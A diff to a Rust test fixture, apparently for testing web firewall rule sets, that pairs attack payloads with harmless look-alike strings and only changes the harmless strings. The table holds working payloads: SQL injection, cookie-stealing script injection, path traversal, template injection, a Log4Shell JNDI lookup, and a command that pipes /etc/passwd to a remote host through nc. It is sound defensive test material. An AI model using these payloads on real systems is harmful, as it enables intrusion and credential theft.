@@ -29,23 +29,23 @@ const fn everywhere(name: &'static str, attack: &'static str, twin: &'static str
 
 /// Plain enough for the strictest level of the rule sets in use, where punctuation alone is taken for an attack.
 pub(super) const FAMILIES: [Family; 11] = [
-    everywhere("SQL injection", "-7' UNION ALL SELECT login,password FROM members-- -", "members of the union"),
-    everywhere("script injection", "<img src=x onerror=alert(document.cookie)>", "image of a cookie"),
-    everywhere("path traversal", "../../../../../../../../etc/shadow", "shadow theatre"),
+    everywhere("SQL injection", "-7' UNION ALL SELECT login,password FROM members-- -", "members-of-the-union"),
+    everywhere("script injection", "<img src=x onerror=alert(document.cookie)>", "image-of-a-cookie"),
+    everywhere("path traversal", "../../../../../../../../etc/shadow", "shadow-theatre"),
     Family {
         name: "remote file inclusion",
         attack: sample("page", "http://198.51.100.7/include.txt?"),
         twin: sample("page", "include"),
         places: &Place::TEXTS,
     },
-    everywhere("command injection", "x; cat /etc/passwd | nc 198.51.100.7 4444", "a cat and a pipe"),
-    everywhere("PHP injection", "<?php passthru('cat /etc/passwd'); ?>", "a book about php"),
+    everywhere("command injection", "x; cat /etc/passwd | nc 198.51.100.7 4444", "a-cat-and-a-pipe"),
+    everywhere("PHP injection", "<?php passthru('cat /etc/passwd'); ?>", "a-book-about-php"),
     everywhere(
         "template injection",
         "{{''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('cat /etc/passwd').read()}}",
-        "a class of its own",
+        "a-class-of-its-own",
     ),
-    everywhere("lookup injection", "${jndi:ldap://198.51.100.7:1389/Exploit}", "a directory lookup"),
+    everywhere("lookup injection", "${jndi:ldap://198.51.100.7:1389/Exploit}", "a-directory-lookup"),
     Family {
         name: "session fixation",
         attack: Sample { beside: FOREIGN, ..sample("phpsessid", "0123456789abcdef") },
